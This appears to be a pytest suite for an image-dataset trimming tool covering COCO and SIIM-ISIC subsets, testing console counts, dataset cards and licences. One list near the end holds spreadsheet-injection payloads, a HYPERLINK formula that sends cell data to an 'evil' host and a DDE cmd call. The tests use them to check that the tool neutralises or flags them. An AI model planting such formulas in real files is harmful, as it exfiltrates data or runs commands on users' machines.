"""What the trims say of the sets they make: on the console, in the picture of the balance, and in the dataset card."""

import collections
import csv
import importlib
import json
import re

import numpy as np
import pytest
from PIL import Image

import emcurate
from tests.coco_sets import image_directory, make_content, run, small, write
from tests.results import contents

trim_siim = importlib.import_module("data_prep.trim_siim")


def run_siim(*arguments):
    return trim_siim.main([str(argument) for argument in arguments])


def rare(tmp_path):
    """Sixty images: car on all but two, bus on three, person on half."""
    labels = [(i, [3] * (i > 2) + [6] * (i % 20 == 0) + [1] * (i % 2) or [81]) for i in range(1, 61)]
    return write(tmp_path / "a.json", make_content(labels))


def draw_literally(content, target, half):
    """Return the images drawn with and without a target, each as often as it was."""
    having = collections.defaultdict(set)
    for annotation in content["annotations"]:
        having[annotation["image_id"]].add(annotation["category_id"])
    generator = np.random.RandomState(42)
    drawn = []
    for side in (True, False):
        group = [image for image, present in having.items() if (target in present) == side]
        drawn.append(generator.choice(group, half, replace=len(group) < half).tolist())
    return drawn


def test_the_console_counts_what_was_drawn_for_each_target_and_warns_of_repeats(tmp_path, capsys):
    path = rare(tmp_path)
    content = json.loads(path.read_text())
    assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", 3, 6, 1, "--train-samples", 20) == 0
    captured = capsys.readouterr()
    lines = [line.split() for line in captured.out.splitlines()]
    labels = json.loads((tmp_path / "o" / "labels_train.json").read_text())
    for target, name, there in ((3, "car", 58), (6, "bus", 3), (1, "person", 30)):
        with_it, without = draw_literally(content, target, 10)
        shown = sum(target in present for present in labels.values())
        expected = [target, name, len(set(with_it)), there, len(set(without)), 60 - there, shown]
        assert [str(cell) for cell in expected] in lines
    assert f"train: {len(labels)} images, drawn for 3 targets" in captured.out
    (warning,) = [line for line in captured.err.splitlines() if "replacement" in line]
    assert warning == (
        "warning: train: sampled with replacement, since 10 images are drawn on each side of a target and there are "
        "fewer: 3 'car' (2 without), 6 'bus' (3 with it); the set holds each image once"
    )


def test_nothing_is_said_of_replacement_where_there_is_none(tmp_path, capsys):
    assert run("--train-annotations", rare(tmp_path), "-o", tmp_path / "o", "--targets", 1, "--train-samples", 60) == 0
    assert "replacement" not in capsys.readouterr().err


def test_many_targets_that_repeat_are_counted(tmp_path, capsys):
    path = write(
        tmp_path / "a.json", make_content([(i, [i]) for i in range(1, 31)], {i: f"c{i}" for i in range(1, 31)})
    )
    assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", *range(1, 31), "--train-samples", 4) == 0
    assert "5 'c5' (1 with it) and 25 more; the set holds" in capsys.readouterr().err


def test_the_balance_shows_what_was_drawn_for_each_target(tmp_path, monkeypatch):
    drawn = []
    monkeypatch.setattr(
        "emcurate.trimming.coco_selection.draw_balance", lambda panels: drawn.append(panels) or b"picture"
    )
    path = rare(tmp_path)
    content = json.loads(path.read_text())
    assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", 6, 1, "--train-samples", 20) == 0
    ((first, second),) = [panels.values() for panels in drawn]
    for target, share in ((6, first[0]), (1, first[1])):
        with_it, without = draw_literally(content, target, 10)
        assert (share.images, share.others, share.draws) == (len(set(with_it)), len(set(without)), 10)
    total = len(json.loads((tmp_path / "o" / "labels_train.json").read_text()))
    assert {share.images + share.others for share in second} == {total}


@pytest.mark.parametrize("name", ["$x^{$", "a\\frac{$y$", "very " * 30 + "long", "日本 \x1b[31m", ""])
def test_any_name_of_a_category_can_be_drawn_and_said(tmp_path, capsys, name):
    path = write(tmp_path / "a.json", make_content([(1, [3]), (2, [1])], {1: "person", 3: name}))
    assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", 3, "--train-samples", 4) == 0
    with Image.open(tmp_path / "o" / "balance_train.png") as picture:
        assert picture.width < 2000
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err


def read_card(directory):
    """Return what the Hub's own library reads in a card, and the card's text."""
    hub = pytest.importorskip("huggingface_hub")
    card = hub.DatasetCard.load(directory / "README.md")
    return card.data.to_dict(), card.text


COCO = "http://images.cocodataset.org/train2017/"


def of_coco(tmp_path, **changes):
    content = json.loads(small(tmp_path).read_text())
    for image in content["images"]:
        image["coco_url"] = COCO + image["file_name"]
        image["license"] = 1 + image["id"] % 2
    content["licenses"] = [
        {"id": 1, "name": "Attribution License", "url": "http://example.org/by"},
        {"id": 2, "name": "No <b>known</b> | copyright"},
    ]
    return write(tmp_path / "instances_train2017.json", {**content, **changes})


def test_a_coco_card_tells_source_seed_version_counts_and_licences(tmp_path):
    path = of_coco(tmp_path)
    command = ["--train-annotations", path, "-o", tmp_path / "o", "--targets", 3, "--train-samples", 4, "--seed", 7]
    assert run(*command) == 0
    about, text = read_card(tmp_path / "o")
    assert about["license"] == "other"
    assert about["license_name"] == "coco-terms-of-use"
    assert about["license_link"] == "https://cocodataset.org/#termsofuse"
    assert about["pretty_name"] == "COCO-Stuff 2017, trimmed"  # there is a banner among the categories
    assert about["size_categories"] == ["n<1K"]
    labels = json.loads((tmp_path / "o" / "labels_train.json").read_text())
    assert f"emcurate {emcurate.__version__}, trim_coco" in text
    assert "- train: seed 7, 4 samples a target, targets 3" in text
    assert f"- train: {len(labels)} images in `train2017/`" in text
    assert "instances\\_train2017.json" in text
    odd = sum(int(re.search(r"\d+\.", key)[0][:-1]) % 2 for key in labels)
    assert f"| No &lt;b&gt;known&lt;/b&gt; \\| copyright | {odd} |" in text
    assert f"| Attribution License (http://example.org/by) | {len(labels) - odd} |" in text
    assert "Annotations: Creative Commons Attribution 4.0, © the COCO Consortium, and of COCO-Stuff its authors" in text
    before = contents(tmp_path / "o")
    assert run(*command[:2], "-o", tmp_path / "p", *command[4:]) == 0
    assert contents(tmp_path / "p") == before  # nothing in it tells when or where
    assert run("--verify", "-o", tmp_path / "o") == 0


@pytest.mark.parametrize(
    "changes",
    [{"licenses": None}, {"licenses": "none"}, {"licenses": [1, {"id": "x"}, {"id": 3, "name": 4}]}, {"info": 3}],
)
def test_odd_licences_stop_nothing(tmp_path, changes):
    path = of_coco(tmp_path, **changes)
    assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", 3) == 0
    assert "Licence" in read_card(tmp_path / "o")[1]


def test_a_set_of_other_images_is_not_said_to_be_coco(tmp_path):
    assert run("--train-annotations", small(tmp_path), "-o", tmp_path / "o", "--targets", 3) == 0
    about, text = read_card(tmp_path / "o")
    assert about["license"] == "unknown"
    assert "COCO 2017" not in about["pretty_name"]
    assert "| not stated | 12 |" in text


def test_a_card_tells_of_both_splits_however_they_were_made(tmp_path):
    (tmp_path / "val").mkdir()
    train, val = small(tmp_path), small(tmp_path / "val", 6)
    flags = ["--targets", 3, "--train-samples", 4, "--val-samples", 4]
    assert run("--train-annotations", train, "--val-annotations", val, *flags, "-o", tmp_path / "both") == 0
    assert run("--train-annotations", train, *flags, "-o", tmp_path / "one") == 0
    assert run("--val-annotations", val, *flags, "-o", tmp_path / "one") == 0
    assert contents(tmp_path / "one") == contents(tmp_path / "both")
    assert "- val: seed 42" in (tmp_path / "one" / "README.md").read_text()


def test_another_selection_gets_another_card_and_a_harmed_one_is_made_again(tmp_path):
    path = of_coco(tmp_path)
    assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", 3, "--train-samples", 4) == 0
    card = (tmp_path / "o" / "README.md").read_bytes()
    for harmed in (card[:100], bytes(len(card))):
        (tmp_path / "o" / "README.md").write_bytes(harmed)
        assert run("--verify", "-o", tmp_path / "o") == 1
        assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", 3, "--train-samples", 4) == 0
        assert (tmp_path / "o" / "README.md").read_bytes() == card
    assert run("--train-annotations", path, "-o", tmp_path / "o", "--targets", 6, "--overwrite") == 0
    assert "targets 6" in (tmp_path / "o" / "README.md").read_text()


@pytest.mark.parametrize("stage", ["coco", "siim"])
def test_a_readme_of_the_users_own_stays(tmp_path, capsys, stage):
    mine = tmp_path / "o" / "README.md"
    mine.parent.mkdir()
    mine.write_text("mine")
    if stage == "coco":
        command = lambda *flags: run("--train-annotations", small(tmp_path), "--targets", 3, "-o", mine.parent, *flags)  # noqa: E731
    else:
        command = lambda *flags: run_siim(*isic(tmp_path), "-o", mine.parent, *flags)  # noqa: E731
    for flags in ([], [], ["--overwrite"]):
        assert command(*flags) == 0
        assert f"{mine}: another README.md is there, so no dataset card was written" in capsys.readouterr().err
        assert mine.read_text() == "mine"
    mine.unlink()
    assert command() == 0
    card = mine.read_text()
    assert card.startswith("---\n")
    # A card that somebody went on writing is theirs as soon as they take the notice out.
    mine.write_text(card + "\nMy words.\n")
    assert command() == 0
    assert mine.read_text() == card
    own = "\n".join(line for line in card.splitlines() if "<!--" not in line) + "\nMy words.\n"
    mine.write_text(own)
    for flags in ([], ["--overwrite"]):
        assert command(*flags) == 0
        assert "another README.md is there" in capsys.readouterr().err
        assert mine.read_text() == own
    mine.unlink()
    mine.mkdir()
    assert command() == 0
    assert "another README.md is there" in capsys.readouterr().err


HEADER = "image_name,patient_id,sex,age_approx,anatom_site_general_challenge,diagnosis,benign_malignant,target"


def isic(tmp_path, header=HEADER, name="ISIC_{:07}", extra=""):
    """Sixty rows of thirty patients, every fourth malignant."""
    rows = [
        f"{name.format(i)},IP_{i % 30},male,45,torso,nevus,{'malignant' if i % 4 == 0 else 'benign'},0{extra}"
        for i in range(60)
    ]
    (tmp_path / "m.csv").write_text("\n".join([header, *rows]) + "\n")
    return ["--metadata", tmp_path / "m.csv", "--benign", "5:35", "--malignant", "0:15"]


def test_siim_counts_classes_and_splits_on_the_console(tmp_path, capsys):
    assert run_siim(*isic(tmp_path), "-o", tmp_path / "o", "--split", "0.7") == 0
    out = capsys.readouterr().out
    assert f"{tmp_path / 'm.csv'}: 60 rows, benign 45, malignant 15" in out
    for part, file in (("chosen", "small"), ("train", "train"), ("test", "test")):
        rows = list(csv.DictReader((tmp_path / "o" / f"metadata_{file}.csv").open()))
        classes = collections.Counter(row["benign_malignant"] for row in rows)
        patients = len({row["patient_id"] for row in rows})
        expected = f"{part}: {len(rows)} rows, benign {classes['benign']}, malignant {classes['malignant']}"
        assert f"{expected}, {patients} patients" in out.splitlines()


def test_a_siim_card_tells_source_cut_seed_version_counts_and_licence(tmp_path):
    command = [*isic(tmp_path), "--split", "0.7", "--seed", 5]
    assert run_siim(*command, "-o", tmp_path / "o") == 0
    about, text = read_card(tmp_path / "o")
    assert about["license"] == "cc-by-nc-4.0"
    assert about["pretty_name"] == "SIIM-ISIC 2020, trimmed"
    assert about["configs"][0]["data_files"] == [
        {"split": "train", "path": "metadata_train.csv"},
        {"split": "test", "path": "metadata_test.csv"},
    ]
    for words in (
        "| seed | 5 |",
        "| benign | 5:35 |",
        "| order | published |",
        "| chosen | 30 | 15 |",
        "ISDIS",
        "m.csv",
    ):
        assert words in text
    assert f"emcurate {emcurate.__version__}, trim_siim" in text
    assert run_siim(*command, "-o", tmp_path / "p") == 0
    assert contents(tmp_path / "p") == contents(tmp_path / "o")


@pytest.mark.parametrize(
    ("options", "licence", "words"),
    [
        ({"name": "mine_{}"}, "unknown", "Not known"),
        ({"header": HEADER.replace("target", "other")}, "unknown", "Not known"),
        ({"header": HEADER + ",copyright_license", "extra": ",CC-0"}, "other", "| CC-0 | 45 |"),
    ],
)
def test_a_siim_card_claims_no_licence_that_is_not_known(tmp_path, options, licence, words):
    assert run_siim(*isic(tmp_path, **options), "-o", tmp_path / "o") == 0
    about, text = read_card(tmp_path / "o")
    assert about["license"] == licence
    assert words in text


def test_the_hub_loader_reads_the_rows_that_the_card_names(tmp_path, monkeypatch):
    datasets = pytest.importorskip("datasets")
    monkeypatch.setattr("datasets.config.HF_DATASETS_CACHE", tmp_path / "cache")
    assert run_siim(*isic(tmp_path), "-o", tmp_path / "o", "--split", "0.7") == 0
    loaded = datasets.load_dataset(str(tmp_path / "o"), cache_dir=str(tmp_path / "cache"))
    rows = {name: list(csv.DictReader((tmp_path / "o" / f"metadata_{name}.csv").open())) for name in ("train", "test")}
    assert {name: part["image_name"] for name, part in loaded.items()} == {
        name: [row["image_name"] for row in part] for name, part in rows.items()
    }


def test_siim_dry_run_counts_and_writes_nothing(tmp_path, capsys):
    (tmp_path / "all").mkdir()
    for i in range(0, 60, 4):
        (tmp_path / "all" / f"ISIC_{i:07}.jpg").write_bytes(bytes(1_000_000))
    assert run_siim(*isic(tmp_path), "--images", tmp_path / "all", "-o", tmp_path / "o", "--dry-run") == 0
    captured = capsys.readouterr()
    assert "images: 15 images to place, 0.015 GB; 0 to fetch, about 0.000 GB; 0 are there already" in captured.out
    assert "images: 30 images are nowhere, such as ISIC_" in captured.err
    assert not (tmp_path / "o").exists()


def test_dry_run_of_coco_counts_images_of_a_directory_and_of_a_zip(tmp_path, capsys):
    images = image_directory(tmp_path / "all", range(1, 13))
    path = small(tmp_path)
    command = ["--train-annotations", path, "--targets", 3, "-o", tmp_path / "o", "--train-images", images]
    assert run(*command, "--dry-run") == 0
    assert "12 train images chosen, 12 images to place, 0 images to fetch, 0 images already there" in (
        capsys.readouterr().out
    )
    assert not (tmp_path / "o").exists()
    assert run(*command) == 0
    before = contents(tmp_path / "o")
    capsys.readouterr()
    assert run(*command, "--dry-run") == 0
    assert "0 images to place, 0 images to fetch, 12 images already there" in capsys.readouterr().out
    assert contents(tmp_path / "o") == before


FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1)", "\t=1", "\uff1d1+1"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_category_named_like_a_formula_is_text_in_the_report(tmp_path, name):
    path = write(tmp_path / "a.json", make_content([(1, [3]), (2, [1])], {1: "person", 3: name}))
    command = ["--train-annotations", path, "-o", tmp_path / "o", "--targets", 3]
    for _ in range(2):  # the second run reads the first one's report
        assert run(*command) == 0
        (row,) = csv.DictReader((tmp_path / "o" / "trim_report.csv").open(newline=""))
        assert row["name"] == f"'{name}"
    assert run("--val-annotations", path, "-o", tmp_path / "o", "--targets", 3) == 0
    rows = list(csv.DictReader((tmp_path / "o" / "trim_report.csv").open(newline="")))
    assert [row["name"] for row in rows] == [f"'{name}"] * 2


@pytest.mark.parametrize("name", FORMULAS[:4])
def test_a_formula_in_the_metadata_is_copied_as_it_stands_and_told_of(tmp_path, capsys, name):
    quoted = '"' + name.replace('"', '""') + '"'
    command = isic(tmp_path, header=HEADER + ",note", extra=f",{quoted}")
    assert run_siim(*command, "-o", tmp_path / "o") == 0
    assert "45 cells that a spreadsheet would run as formulas, such as" in capsys.readouterr().err
    small_file = (tmp_path / "o" / "metadata_small.csv").read_text()
    assert small_file.count(quoted) == 45
    assert run_siim(*isic(tmp_path, header=HEADER + ",note", extra=",-0.5"), "-o", tmp_path / "p") == 0
    assert "formulas" not in capsys.readouterr().err
